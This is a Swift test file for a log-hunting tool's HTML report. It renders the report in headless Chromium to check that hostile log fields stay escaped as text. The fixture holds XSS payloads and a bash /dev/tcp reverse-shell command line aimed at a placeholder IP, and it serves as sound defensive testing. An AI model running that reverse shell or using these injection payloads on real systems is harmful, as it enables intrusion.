import Foundation
import Testing
import VigilTooling

/// `vigil hunt --report`: the HTML report, opened in headless Chromium (the real browser).
@Suite(.serialized) struct HuntReportTests {
    static let chromium = ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"]
        .first { FileManager.default.isExecutableFile(atPath: $0) }

    /// A field built to break out of the page: a script, an image with an onerror handler and a
    /// closing tag, in the host name and the command line of an event that raises alerts.
    static let hostile = #"{"@timestamp":"2026-11-27T10:00:00Z","hostname":"web-01<img src=x onerror=alert(1)>","#
        + #""logsource":{"category":"process_creation","product":"linux"},"Image":"/bin/bash","#
        + #""CommandLine":"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 </code></td><script>document.body.setAttribute('data-pwned','1')</script><img src=x onerror=\"document.title='pwned'\">"}"#

    /// Runs headless Chromium on `arguments` with stdout to `output`; its exit status.
    func runChromium(_ arguments: [String], output: URL) async throws -> Int32 {
        let chromium = try #require(Self.chromium, "headless Chromium is needed: apt-get install chromium (.ci/run does)")
        FileManager.default.createFile(atPath: output.path, contents: nil)
        let process = Process()
        process.executableURL = URL(fileURLWithPath: chromium)
        // --no-sandbox: CI runs as root, where Chromium's sandbox refuses to start.
        process.arguments = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--user-data-dir=\(output.deletingLastPathComponent().path)/profile"] + arguments
        process.standardOutput = try FileHandle(forWritingTo: output)
        process.standardError = FileHandle.nullDevice
        try process.run()
        await process.exited()
        return process.terminationStatus
    }

    @Test func theReportRendersInChromiumAndAHostileFieldStaysText() async throws {
        let folder = TemporaryDirectory()
        try FileManager.default.createDirectory(at: folder.url.appendingPathComponent("logs"), withIntermediateDirectories: true)
        try FileManager.default.copyItem(at: HuntWorkflowTests.clamscan, to: folder.url.appendingPathComponent("logs/clamscan.log"))
        try folder.write("logs/hostile.ndjson", Self.hostile)
        try folder.write("logs/garbage.bin", "\u{1}\u{2} not a log")
        let hunt = try await vigil(["hunt", "--report", "report.html", "logs"], in: folder.url)
        #expect(hunt.status == 1, "a skipped file makes the exit code 1: \(hunt.stderr)")
        let html = try String(contentsOf: folder.url.appendingPathComponent("report.html"), encoding: .utf8)

        // Self-contained: no element loads anything (the only "src=" is the hostile text, escaped).
        #expect(html.range(of: #"<[a-z]+[^>]*\s(src|href)="#, options: .regularExpression) == nil)
        #expect(html.contains("default-src 'none'"))

        let dom = folder.url.appendingPathComponent("dom.html")
        #expect(try await runChromium(["--dump-dom", folder.url.appendingPathComponent("report.html").absoluteString], output: dom) == 0)
        let rendered = try String(contentsOf: dom, encoding: .utf8)
        #expect(rendered.contains("<title>Vigil hunt report</title>"), "the page did not render: \(rendered.prefix(300))")
        #expect(!rendered.contains(#"data-pwned="1""#) && !rendered.contains("<title>pwned"), "a hostile field ran as script")
        #expect(!rendered.contains("<img"), "a hostile field became an element")
        #expect(!rendered.contains("<script"))
        #expect(rendered.contains("&lt;script&gt;document.body.setAttribute"), "the hostile text is shown as text")
        #expect(rendered.contains("web-01&lt;img src=x onerror=alert(1)&gt;"))

        // The parts the report promises, as the browser parsed them.
        #expect(rendered.contains(#"<svg id="chart""#) && rendered.components(separatedBy: "<rect").count > 2)
        for heading in ["Matches over time, by level", "Top rules", "Top hosts", "By level", "Files", "Matches"] {
            #expect(rendered.contains("<h2>\(heading)</h2>"), "missing \(heading)")
        }
        #expect(rendered.contains("EICAR test file detected"))
        #expect(rendered.contains("Reverse shell command line"))
        #expect(rendered.contains("logs/garbage.bin</td><td colspan=\"4\">skipped: cannot tell the format"))
        let matches = rendered.components(separatedBy: #"<table id="matches">"#).last ?? ""
        let matched = try #require(hunt.stderr.components(separatedBy: "\n").last { $0.contains(" matches in ") }?.split(separator: " ").first.flatMap { Int($0) })
        #expect(matches.components(separatedBy: "<tr>").count - 2 == matched, "every match is listed")

        let screenshot = folder.url.appendingPathComponent("report.png")
        _ = try await runChromium(["--screenshot=\(screenshot.path)", "--window-size=1200,1600",
                                   folder.url.appendingPathComponent("report.html").absoluteString], output: folder.url.appendingPathComponent("shot.log"))
        let png = try Data(contentsOf: screenshot)
        #expect(png.starts(with: [0x89, 0x50, 0x4E, 0x47]) && png.count > 20_000, "the page painted")
    }
}
